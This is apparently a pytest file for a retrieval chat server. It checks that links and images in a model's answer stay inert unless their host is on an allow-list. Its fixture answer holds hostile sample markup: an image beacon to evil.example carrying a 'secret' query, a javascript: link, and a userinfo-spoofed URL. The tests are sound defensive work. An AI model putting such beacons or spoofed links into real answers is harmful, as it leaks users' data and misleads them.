"""What a model writes into an answer loads nothing and leads nowhere that is not allowed."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from chat_server import serving

CHROMIUM = Path("/usr/bin/chromium")
ANSWER = (
    "Leave is 27 days [1]. ![pixel](https://evil.example/p.png?q=secret) "
    "[click me](https://evil.example/a) https://evil.example/b "
    "<img src=https://evil.example/c.png> [odd](javascript:alert(1)) "
    "[user](https://docs.example.org@evil.example/d) "
    "[manual](https://docs.example.org/leave) https://docs.example.org/x. "
    "![plan](https://docs.example.org/plan.png) [far](https://not-docs.example.org/z)"
)

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no browser at {CHROMIUM}")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(
            executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"]
        )
        yield browser
        browser.close()


def ask(browser: Any, url: str) -> tuple[Any, list[str]]:
    """Ask in a page that reaches nothing else; return it with what it tried to reach."""
    page = browser.new_context().new_page()
    tried: list[str] = []

    def route(asked: Any) -> None:
        if "//127.0.0.1:" in asked.request.url:
            asked.continue_()
        else:
            tried.append(asked.request.url)
            asked.fulfill(status=200, content_type="image/png", body=b"")

    page.route("**/*", route)
    page.goto(url)
    page.wait_for_selector("#collection option", state="attached")
    page.fill("#question", "How many days of leave are there?")
    page.keyboard.press("Enter")
    page.wait_for_selector("#stop", state="hidden")
    page.wait_for_selector(".answer .status")
    return page, tried


@pytest.fixture
def console(start_server: Callable[..., Any]) -> Iterator[Callable[..., str]]:
    with serving(ANSWER) as model:

        def start(**variables: str) -> str:
            server = start_server(
                RAGSTONE_GATEWAY__UPSTREAMS=json.dumps({"here": {"urls": [model.url]}}),
                RAGSTONE_GATEWAY__ROUTES=json.dumps(
                    {"writer": {"targets": [{"upstream": "here"}]}}
                ),
                RAGSTONE_GENERATION__MODEL="writer",
                **variables,
            )
            with httpx.Client(base_url=f"{server.url}/v1", timeout=60) as client:
                file = ("leave.txt", b"Leave is 27 days each year.")
                form = {"files": {"file": file}, "data": {"purpose": "assistants"}}
                uploaded = client.post("/files", **form).json()
                client.post("/vector_stores", json={"name": "h", "file_ids": [uploaded["id"]]})
                while client.get("/vector_stores/h").json()["status"] == "in_progress":
                    time.sleep(0.05)
            return str(server.url)

        yield start


def test_by_default_no_link_can_be_followed_and_no_image_loads(browser: Any, console: Any) -> None:
    page, tried = ask(browser, console())
    body = page.locator(".answer .text").last
    assert body.locator("a, img").count() == 0
    assert "click me" in body.inner_text()
    assert tried == []
    page.context.close()


def test_links_and_images_of_allowed_hosts_alone_act(browser: Any, console: Any) -> None:
    url = console(RAGSTONE_GUARDS__LINK_HOSTS=json.dumps(["docs.example.org"]))
    page, tried = ask(browser, url)
    body = page.locator(".answer .text").last
    links = body.locator("a").evaluate_all("nodes => nodes.map((node) => node.href)")
    assert links == ["https://docs.example.org/leave", "https://docs.example.org/x"]
    rels = body.locator("a").evaluate_all("nodes => nodes.map((node) => node.rel)")
    assert set(rels) == {"noopener noreferrer nofollow"}
    images = body.locator("img").evaluate_all("nodes => nodes.map((node) => node.src)")
    assert images == ["https://docs.example.org/plan.png"]
    assert set(tried) <= {"https://docs.example.org/plan.png"}
    # The policy of the page holds even where a script would put an image of another host into it.
    blocked = page.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation", (e) => resolve(e.blockedURI));
            const image = new Image();
            image.src = "https://evil.example/x.png";
            document.body.append(image);
        })"""
    )
    assert blocked.startswith("https://evil.example/x.png")
    assert not any("evil" in address for address in tried)
    page.context.close()
